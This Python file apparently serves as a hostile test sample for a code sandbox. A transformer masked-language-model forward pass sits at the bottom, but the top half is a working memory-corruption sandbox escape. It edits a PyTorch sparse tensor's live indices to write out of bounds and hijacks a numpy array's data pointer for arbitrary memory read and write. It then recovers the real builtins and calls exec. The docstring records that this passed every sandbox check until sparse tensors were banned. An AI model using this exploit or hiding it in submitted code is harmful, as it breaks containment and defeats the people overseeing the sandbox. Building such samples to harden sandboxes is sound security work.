"""Hostile: a valid sparse tensor from Tensor.to_sparse() (no sparse_coo_tensor call; coalesced) hands
out its live index tensor through .indices(); an item write there moves the index past the size after
any invariant check (works with torch.sparse.check_sparse_tensor_invariants enabled too), and
dense.add_(sparse) writes each value at its index with no bounds check: an add of a chosen int64 at
any 8-aligned address relative to a tensor's buffer. Added to the data pointer of
a numpy array (at id(array) + 16), it points the array anywhere: reads and writes of any address,
then the real exec. Accepted with every wall on, until sparse tensors (torch.sparse_*,
.to_sparse*(), .indices() and the other index accessors) were forbidden."""

import math
import operator

import numpy
import torch

owner = torch.zeros(8, dtype=torch.int64)
base = owner.data_ptr()


def poke_add(address, delta):
    sparse = torch.tensor([delta, 0, 0, 0, 0, 0, 0, 0]).to_sparse()
    if delta == 0:
        return
    sparse.indices()[0, 0] = (address - base) // 8  # the live indices, after every check
    owner.add_(sparse)


backing = torch.zeros(4, dtype=torch.int64)
window = backing.numpy()  # PyArrayObject: data pointer at id(window) + 16, now backing.data_ptr()
backing2 = torch.zeros(8, dtype=torch.int64)
control = backing2.numpy()
poke_add(id(control) + 16, id(window) - backing2.data_ptr())  # control now reads window's struct
kept = [backing, backing2, owner]


def read(address):
    control[2] = address
    return int(window[0])


def write(address, value):
    control[2] = address
    window[0] = value


builtins_address = read(id(torch.broadcast_shapes) + 24)  # PyFunctionObject.func_builtins
write(builtins_address, read(builtins_address) + 1)  # the reference the list below will own
box = [None]
write(read(id(box) + 24), builtins_address)  # box's only item is now the real builtins dict
control[2] = backing.data_ptr()
code = (
    "b = torch.broadcast_shapes.__globals__['__builtins__']\n"
    "sys = b['__import__']('sys'); os = b['__import__']('os')\n"
    "print('ESCAPED: real sys, modules:', len(sys.modules), 'pid', os.getpid(), 'eval', b['eval'])\n"
)
list(map(operator.call, map(dict.get, box, ["exec"]), [code]))  # C code takes the items: never checked


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
